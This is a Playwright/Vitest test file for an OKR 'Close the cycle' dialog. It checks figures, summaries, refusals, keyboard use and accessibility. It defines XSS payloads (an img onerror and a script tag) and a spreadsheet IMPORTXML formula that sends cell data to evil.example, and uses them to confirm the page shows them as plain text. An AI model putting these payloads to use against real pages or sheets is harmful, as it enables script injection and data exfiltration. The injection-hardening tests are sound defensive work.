// The Close the cycle dialog (dist/CloseCycle.html) in headless Chromium, 720 ×
// 600, with a STAND-IN SERVER that answers as src/shared/cycle-review-api.ts
// says, through the runtime's google.script.run bridge (callFromPage:
// arguments and values held to Google's rules). The stand-in gives a known
// review (figures, hostile text, notices, an already closed cycle, a refusal)
// and records what closeCycle received, so each test checks the page against
// exact figures and exact input. The dialog against the real server (the
// Archive rows it writes) is close-cycle.browser.test.ts, once the server is in dist/Code.js.
import AxeBuilder from '@axe-core/playwright';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterEach, expect, test } from 'vitest';
import { ROOT } from '../../dev/build';
import { callFromPage } from '../../dev/runtime/index';
import type { CloseCycleInput, CycleClosed, CycleReview } from '../../src/shared/cycle-review-api';
import { openWithStandIn, type Harness } from './harness';

/** Text that would run or compute if it were ever read as HTML or a formula. */
const HOSTILE = '<img src=x onerror="window.__pwned = 1">';
const FORMULA = '=IMPORTXML("https://evil.example/?q="&A1, "//a")';
const SCRIPT = '<script>window.__pwned = 2</script>';

function reviewOf(): CycleReview {
  return {
    cycle: '2026-Q4',
    nextCycle: '2027-Q1',
    closedOn: null,
    notices: [`P2-KR1 has no score: its current value is missing. ${SCRIPT}`],
    objectives: [
      {
        id: 'P1',
        title: 'Make onboarding effortless',
        team: 'Product',
        owner: 'ana@acme.example',
        progress: 0.62,
        score: 0.6,
        status: 'on track',
        checkins: 7,
        keyResults: [
          {
            id: 'P1-KR1',
            title: 'Activation 40% → 60%',
            owner: 'ana@acme.example',
            progress: 1,
            score: 1,
            status: 'done',
            checkins: 4,
            done: true,
          },
          {
            id: 'P1-KR2',
            title: 'Time to value 10 → 3 days',
            owner: 'bo@acme.example',
            progress: 0.46,
            score: 0.5,
            status: 'at risk',
            checkins: 3,
            done: false,
          },
        ],
      },
      {
        id: 'P2',
        title: HOSTILE,
        team: FORMULA,
        owner: SCRIPT,
        progress: null,
        score: null,
        status: 'no data',
        checkins: 0,
        keyResults: [
          { id: 'P2-KR1', title: FORMULA, owner: HOSTILE, progress: null, score: null, status: 'no data', checkins: 0, done: false },
          { id: 'P2-KR2', title: 'Ship weekly', owner: '', progress: 0.25, score: 0.3, status: 'off track', checkins: 2, done: false },
        ],
      },
    ],
  };
}

const CLOSED: CycleClosed = { archived: 6, carriedOver: 1, cycle: '2027-Q1' };

interface StandIn {
  harness: Harness;
  page: Page;
  /** What each closeCycle call received, in order. */
  received: CloseCycleInput[];
}

let harness: Harness | undefined;
afterEach(async () => {
  await harness?.close();
  harness = undefined;
});

/** Opens the dialog on `review` (a function throws, as a failed read); closeCycle answers with `close` (which may throw, as a refusal). */
async function open(
  review: CycleReview | (() => CycleReview) = reviewOf(),
  close: (input: CloseCycleInput) => CycleClosed = () => CLOSED,
): Promise<StandIn> {
  const received: CloseCycleInput[] = [];
  const functions: Record<string, (...args: unknown[]) => unknown> = {
    getCycleReview: () => (typeof review === 'function' ? review() : review),
    closeCycle: (input) => {
      received.push(input as CloseCycleInput);
      return close(input as CloseCycleInput);
    },
  };
  harness = await openWithStandIn(
    (name, args) =>
      callFromPage(
        (fn, a) => {
          const f = functions[fn];
          if (!f) throw new Error(`Script function not found: ${fn}`);
          return f(...a);
        },
        name,
        args,
      ),
    { file: 'CloseCycle', width: 720 },
  );
  const page = harness.page;
  await page.setViewportSize({ width: 720, height: 600 });
  await expect.poll(() => page.locator('#app').getAttribute('aria-busy'), { timeout: 15_000 }).toBeNull();
  return { harness, page, received };
}

const summary = (page: Page) => page.locator('.summary').textContent();
const active = (page: Page) =>
  page.evaluate(() => {
    const a = document.activeElement as HTMLElement | null;
    return a?.id ? `#${a.id}` : (a?.textContent ?? '');
  });

test('lists the objectives and key results with progress, score (one decimal), status and check-ins', async () => {
  const { page } = await open();
  expect(await page.locator('h1').textContent()).toBe('Close the cycle: 2026-Q4');
  expect(await page.locator('.objective h2').allTextContents()).toEqual(['P1 Make onboarding effortless', `P2 ${HOSTILE}`]);
  const rows = await page
    .locator('.objective')
    .first()
    .locator('tbody tr')
    .evaluateAll((trs) =>
      trs.map((tr) =>
        Array.from(tr.children)
          .slice(1, 5)
          .map((cell) => cell.textContent),
      ),
    );
  expect(rows).toEqual([
    ['62%', '0.6', 'on track', '7'],
    ['100%', '1.0', 'done', '4'],
    ['46%', '0.5', 'at risk', '3'],
  ]);
  const second = await page
    .locator('.objective')
    .nth(1)
    .locator('tbody tr')
    .evaluateAll((trs) =>
      trs.map((tr) =>
        Array.from(tr.children)
          .slice(1, 5)
          .map((cell) => cell.textContent),
      ),
    );
  expect(second).toEqual([
    ['no data yet', '—', 'no data', '0'],
    ['no data yet', '—', 'no data', '0'],
    ['25%', '0.3', 'off track', '2'],
  ]);
  // A carry-over box for each unfinished key result only (P1-KR1 is done), named for the next cycle.
  const boxes = page.getByRole('checkbox');
  expect(await boxes.count()).toBe(3);
  expect(await page.getByRole('checkbox', { name: 'Carry over to 2027-Q1 (P1-KR2)' }).count()).toBe(1);
  expect(await page.getByRole('checkbox', { name: /P1-KR1/ }).count()).toBe(0);
  expect(await page.getByLabel('Next cycle').inputValue()).toBe('2027-Q1');
  expect(await page.getByRole('textbox', { name: /What we learned/ }).count()).toBe(2);
  expect(await page.locator('.notices li').allTextContents()).toEqual([`P2-KR1 has no score: its current value is missing. ${SCRIPT}`]);
  expect(await page.getByRole('button', { name: 'Close 2026-Q4…' }).isVisible()).toBe(true);
  // The page fits the dialog: the list scrolls, the buttons stay in view.
  expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeLessThanOrEqual(600);
  await page.screenshot({ path: path.join(ROOT, 'test-results', 'close-cycle.png') });
}, 60_000);

test('hostile titles, owners, teams and notices show as the text they are: nothing injected, nothing run', async () => {
  const { page } = await open();
  const second = page.locator('.objective').nth(1);
  expect(await second.locator('h2 .title').textContent()).toBe(HOSTILE);
  expect(await second.locator('.meta .team').textContent()).toBe(FORMULA);
  expect(await second.locator('.meta .owner').textContent()).toBe(SCRIPT);
  expect(await second.locator('tbody tr').nth(1).locator('.title').textContent()).toBe(FORMULA);
  expect(await second.locator('tbody tr').nth(1).locator('.owner').textContent()).toBe(HOSTILE);
  expect(await page.locator('main img, main script, [onerror]').count()).toBe(0);
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
}, 60_000);

test('the summary line says what closing will do, and follows the ticks and the next cycle as they change', async () => {
  const { page } = await open();
  expect(await summary(page)).toBe(
    'Closing 2026-Q4 archives 2 objectives and 4 key results, carries nothing over, and makes 2027-Q1 the current cycle.',
  );
  await page.getByRole('checkbox', { name: /P1-KR2/ }).check();
  expect(await summary(page)).toBe(
    'Closing 2026-Q4 archives 2 objectives and 4 key results, carries 1 key result over to 2027-Q1, and makes 2027-Q1 the current cycle.',
  );
  await page.getByRole('checkbox', { name: /P2-KR2/ }).check();
  await page.getByLabel('Next cycle').fill('2027-H1');
  expect(await summary(page)).toBe(
    'Closing 2026-Q4 archives 2 objectives and 4 key results, carries 2 key results over to 2027-H1, and makes 2027-H1 the current cycle.',
  );
  // The boxes' labels follow the next cycle too.
  expect(await page.getByRole('checkbox', { name: 'Carry over to 2027-H1 (P2-KR2)' }).isChecked()).toBe(true);
  // A change while the question is open takes the question away: its counts are stale.
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  expect(await page.locator('.question p').textContent()).toContain('carries 2 key results over to 2027-H1');
  await page.getByRole('checkbox', { name: /P2-KR2/ }).uncheck();
  expect(await page.locator('.question').count()).toBe(0);
  expect(await page.getByRole('button', { name: 'Close 2026-Q4…' }).isEnabled()).toBe(true);
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  expect(await page.locator('.question p').textContent()).toContain('carries 1 key result over to 2027-H1');
}, 60_000);

test('a reflection past 500 characters is counted live, flagged, and never sent', async () => {
  const { page, received, harness } = await open();
  const learned = page.getByRole('textbox', { name: 'What we learned (P1)' });
  await learned.fill('x'.repeat(500));
  expect(await page.locator('.length').first().textContent()).toBe('500 of 500 characters');
  expect(await learned.getAttribute('aria-invalid')).toBeNull();
  await learned.press('y');
  expect(await page.locator('.length').first().textContent()).toBe('1 character over the 500-character limit');
  expect(await learned.getAttribute('aria-invalid')).toBe('true');
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  expect(await page.locator('.problem').textContent()).toBe(
    'What we learned for P1 is 1 character over the 500-character limit: shorten it to close the cycle.',
  );
  expect(await active(page)).toBe(`#${await learned.getAttribute('id')}`);
  expect(await page.getByRole('button', { name: 'Yes, close 2026-Q4' }).count()).toBe(0);
  expect(received).toEqual([]);
  expect(harness.calls).toEqual(['getCycleReview']);
  // Back to 500, it goes through.
  await learned.press('Backspace');
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  await page.getByRole('button', { name: 'Yes, close 2026-Q4' }).click();
  await expect.poll(() => received.length, { timeout: 15_000 }).toBe(1);
  expect(received[0]!.reflections).toEqual({ P1: 'x'.repeat(500) });
}, 60_000);

test('a refusal shows as an error, never as success, and keeps everything typed and ticked', async () => {
  const refusal = 'The cycle 2026-Q4 is no longer the current one: Settings says 2027-Q1. Open the dialog again.';
  const { page, received } = await open(reviewOf(), () => {
    throw new Error(refusal);
  });
  await page.getByRole('textbox', { name: 'What we learned (P2)' }).fill(HOSTILE);
  await page.getByRole('checkbox', { name: /P2-KR1/ }).check();
  await page.getByLabel('Next cycle').fill('2027-H1');
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).click();
  await page.getByRole('button', { name: 'Yes, close 2026-Q4' }).click();
  await expect
    .poll(() => page.locator('[role=alert]').textContent(), { timeout: 15_000 })
    .toBe(`Closing 2026-Q4 did not go through: ${refusal}`);
  expect(await page.locator('.result').count()).toBe(0);
  expect(await page.getByRole('textbox', { name: 'What we learned (P2)' }).inputValue()).toBe(HOSTILE);
  expect(await page.getByRole('checkbox', { name: /P2-KR1/ }).isChecked()).toBe(true);
  expect(await page.getByLabel('Next cycle').inputValue()).toBe('2027-H1');
  expect(await page.getByRole('button', { name: 'Close 2026-Q4…' }).isEnabled()).toBe(true);
  expect(received).toEqual([{ cycle: '2026-Q4', nextCycle: '2027-H1', reflections: { P2: HOSTILE }, carryOver: ['P2-KR1'] }]);
}, 60_000);

test('a double click sends one closeCycle: on Close it only asks, on the confirmation it sends once', async () => {
  const { page, received, harness } = await open();
  await page.getByRole('button', { name: 'Close 2026-Q4…' }).dblclick();
  const yes = page.getByRole('button', { name: 'Yes, close 2026-Q4' });
  expect(await yes.isVisible()).toBe(true);
  expect(received).toEqual([]);
  await yes.dblclick();
  await expect
    .poll(() => page.locator('.result').textContent(), { timeout: 15_000 })
    .toBe(
      '2026-Q4 is closed: 6 rows were added to the Archive tab, 1 key result was carried over to 2027-Q1, and 2027-Q1 is now the current cycle.',
    );
  await page.waitForTimeout(300);
  expect(received).toHaveLength(1);
  expect(harness.calls).toEqual(['getCycleReview', 'closeCycle']);
}, 60_000);

test('a review that cannot be read is said as an error, with only Close to press', async () => {
  const { page } = await open(() => {
    throw new Error(`The Settings tab has no current cycle. ${HOSTILE}`);
  });
  expect(await page.locator('[role=alert]').textContent()).toBe(
    `The cycle could not be read: The Settings tab has no current cycle. ${HOSTILE}`,
  );
  expect(await page.getByRole('button').allTextContents()).toEqual(['Close']);
  expect(await page.locator('main img').count()).toBe(0);
}, 60_000);

test('a cycle closed already says when, and offers no way to close it again', async () => {
  const { page } = await open({ ...reviewOf(), closedOn: '2026-12-01' });
  expect(await page.locator('.closed').textContent()).toBe('2026-Q4 was already closed on 1 Dec 2026: its record is in the Archive tab.');
  expect(await page.getByRole('button').allTextContents()).toEqual(['Close']);
  expect(await page.locator('input, textarea').count()).toBe(0);
  expect((await new AxeBuilder({ page }).analyze()).violations.map((v) => v.id)).toEqual([]);
}, 60_000);

test('the whole close with the keyboard alone (Tab, Space, Enter, Escape): no axe violation, and closeCycle gets what was chosen', async () => {
  const { page, received, harness } = await open();
  expect((await new AxeBuilder({ page }).analyze()).violations.map((v) => v.id)).toEqual([]);
  const tab = async () => {
    await page.keyboard.press('Tab');
    return active(page);
  };
  // Tab order: the next cycle, then each objective's boxes and reflection, then Close and Cancel.
  expect(await tab()).toBe('#next-cycle');
  await page.keyboard.press('Control+A');
  await page.keyboard.type('2027-H1');
  const p1kr2 = await tab();
  expect(await page.evaluate(() => (document.activeElement as HTMLInputElement).labels?.[0]?.textContent)).toBe(
    'Carry over to 2027-H1 (P1-KR2)',
  );
  await page.keyboard.press('Space');
  expect(await tab()).toMatch(/^#learned-/);
  await page.keyboard.type('Fewer key results, <b>measured</b> weekly.');
  expect(p1kr2).toMatch(/^#carry-/);
  expect(await tab()).toMatch(/^#carry-/); // P2-KR1: left unticked
  expect(await tab()).toMatch(/^#carry-/); // P2-KR2
  await page.keyboard.press('Space');
  expect(await tab()).toMatch(/^#learned-/);
  await page.keyboard.type(FORMULA);
  expect(await tab()).toBe('Close 2026-Q4…');
  expect(await summary(page)).toBe(
    'Closing 2026-Q4 archives 2 objectives and 4 key results, carries 2 key results over to 2027-H1, and makes 2027-H1 the current cycle.',
  );
  // Enter asks; Escape goes back to the button with everything kept; Space asks again.
  await page.keyboard.press('Enter');
  expect(await active(page)).toBe('Yes, close 2026-Q4');
  expect(await page.locator('.question p').textContent()).toBe(
    'Close 2026-Q4 for good? It archives 2 objectives and 4 key results as they stand, carries 2 key results over to 2027-H1, and makes 2027-H1 the current cycle. This cannot be undone.',
  );
  expect((await new AxeBuilder({ page }).analyze()).violations.map((v) => v.id)).toEqual([]);
  await page.keyboard.press('Escape');
  expect(await page.locator('.question').count()).toBe(0);
  expect(await active(page)).toBe('Close 2026-Q4…');
  await page.keyboard.press('Space');
  expect(await active(page)).toBe('Yes, close 2026-Q4');
  expect(await tab()).toBe('Go back');
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Enter');
  await expect.poll(() => active(page), { timeout: 15_000 }).toMatch(/^2026-Q4 is closed/);
  expect(received).toEqual([
    {
      cycle: '2026-Q4',
      nextCycle: '2027-H1',
      reflections: { P1: 'Fewer key results, <b>measured</b> weekly.', P2: FORMULA },
      carryOver: ['P1-KR2', 'P2-KR2'],
    },
  ]);
  expect((await new AxeBuilder({ page }).analyze()).violations.map((v) => v.id)).toEqual([]);
  expect(await tab()).toBe('Close');
  await page.keyboard.press('Enter');
  expect(await page.evaluate(() => (window as unknown as { __okrClosed?: boolean }).__okrClosed)).toBe(true);
  expect(harness.calls).toEqual(['getCycleReview', 'closeCycle']);
}, 60_000);

test('Cancel with something typed asks before leaving; Escape keeps the work', async () => {
  const { page } = await open();
  await page.getByRole('textbox', { name: 'What we learned (P1)' }).fill('Worth keeping');
  await page.getByRole('button', { name: 'Cancel' }).click();
  expect(await page.locator('.question p').textContent()).toMatch(/^Leave without closing the cycle\?/);
  await page.keyboard.press('Escape');
  expect(await page.locator('.question').count()).toBe(0);
  expect(await page.getByRole('textbox', { name: 'What we learned (P1)' }).inputValue()).toBe('Worth keeping');
  expect(await page.evaluate(() => (window as unknown as { __okrClosed?: boolean }).__okrClosed)).toBeUndefined();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await page.getByRole('button', { name: 'Leave' }).click();
  expect(await page.evaluate(() => (window as unknown as { __okrClosed?: boolean }).__okrClosed)).toBe(true);
}, 60_000);
